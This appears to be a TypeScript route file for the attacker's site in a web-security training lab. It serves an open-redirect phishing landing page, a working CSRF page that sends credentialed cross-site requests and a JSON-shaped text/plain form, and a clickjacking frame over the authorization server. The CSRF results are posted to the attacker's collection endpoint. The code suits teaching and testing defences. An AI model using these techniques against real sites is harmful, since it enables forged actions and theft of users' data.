import Router from '@koa/router';
import { html, rawHtml, type SafeHtml } from '@lab/kit';
import type { LabTopology } from '@lab/shared';
import type { LootStore } from '../loot.ts';
import { isPayloadName, renderPayload } from '../payloads/payloads.ts';

/** The attacker's pages: what a victim's browser is lured to, and the payloads an XSS loads. */
export function createPageRoutes(topology: LabTopology, loot: LootStore): Router {
  const router = new Router();
  const spa = topology.spa.url;

  router.get('/', (ctx) => {
    ctx.type = 'html';
    ctx.body = page(
      "The attacker's site",
      html`<p>This origin (${topology.attacker.url}) is a third site, cross-site to the app and to the authorization server.</p>`,
    );
  });

  // Where an open redirect drops the victim (returnTo pointing here).
  router.get('/landing', (ctx) => {
    loot.add({ channel: 'landing', label: 'open-redirect', data: { url: ctx.href }, referer: ctx.get('Referer') || undefined });
    ctx.type = 'html';
    ctx.body = page('Welcome back!', html`<p>Looks like the app, is not the app: please sign in again here… (a phishing page).</p>`);
  });

  // Cross-site request forgery against the app's API, read and write (RFC 9700 §4.1 family; OWASP CSRF).
  router.get('/csrf', (ctx) => {
    const notesUrl = `${spa}/api/notes`;
    ctx.type = 'html';
    ctx.body = page(
      'You won a prize!',
      html`<p>(Meanwhile, this page calls the app's API with the victim's cookies.)</p>
<form id="forged" method="POST" action="${notesUrl}" enctype="text/plain" hidden>
  <!-- text/plain sends name=value: this name and value make the body {"text":"…","padding":"="}, valid JSON. -->
  <input name='{"text":"Mallory was here (cross-site form)","padding":"' value='"}'>
</form>
<script>
(async () => {
  const results = {};
  // Write: a request a plain HTML form could send too (text/plain, no custom header).
  results.write = await fetch(${scriptString(notesUrl)}, {
    method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'Content-Type': 'text/plain' },
    body: JSON.stringify({ text: 'Mallory was here (cross-site request)' }),
  }).then((r) => 'sent (' + r.type + ' response)', (e) => 'failed: ' + e.message);
  // Read: the same-origin policy keeps the answer from this page unless CORS allows it.
  results.read = await fetch(${scriptString(notesUrl)}, { credentials: 'include' })
    .then((r) => r.text(), (e) => 'unreadable: ' + e.message);
  await fetch('/collect/csrf', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(results) });
  document.title = 'done';
  // Browsers that block third-party cookies leave the cookie off the fetches above, whatever its
  // SameSite. A top-level form POST is a first-party request: a SameSite=None cookie goes with it.
  document.getElementById('forged').submit();
})();
</script>`,
    );
  });

  // Clickjacking (RFC 9700 §4.16): the authorization server's page in a see-through frame over a bait button.
  router.get('/frame', (ctx) => {
    const target = typeof ctx.query.src === 'string' ? ctx.query.src : topology.authserver.url;
    ctx.type = 'html';
    ctx.body = page(
      'Click to claim your prize',
      html`<div style="position:relative;width:640px;height:520px">
  <button style="position:absolute;top:300px;left:40px;font-size:24px">Claim prize</button>
  <iframe id="victim" src="${target}" style="position:absolute;top:0;left:0;width:640px;height:520px;opacity:0.3;border:2px dashed red"></iframe>
</div>`,
    );
  });

  router.get('/payloads/:name.js', (ctx) => {
    const name = ctx.params.name ?? '';
    if (!isPayloadName(name)) return ctx.throw(404, `no payload ${name}`);
    ctx.type = 'application/javascript';
    ctx.set('Access-Control-Allow-Origin', '*');
    ctx.body = renderPayload(name, topology);
    return undefined;
  });

  return router;
}

/** The frame of the attacker's pages, as the text for `ctx.body`. */
function page(title: string, body: SafeHtml): string {
  return html`<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
<style>body{font:18px/1.5 system-ui,sans-serif;margin:0;background:#222;color:#eee}.role{background:#b00020;color:#fff;padding:.6rem 1.2rem;font-weight:700}main{padding:1rem 1.5rem}</style>
</head><body><div class="role">You are on the ATTACKER's site (Mallory)</div><main><h1>${title}</h1>${body}</main></body></html>`.toString();
}

/**
 * A string as a JavaScript literal inside a `<script>`, where HTML escaping does not apply (the
 * script's text is not decoded): JSON, with `<` as `\u003c` so the text cannot close the element.
 */
function scriptString(value: string): SafeHtml {
  return rawHtml(JSON.stringify(value).replace(/</g, '\\u003c'));
}
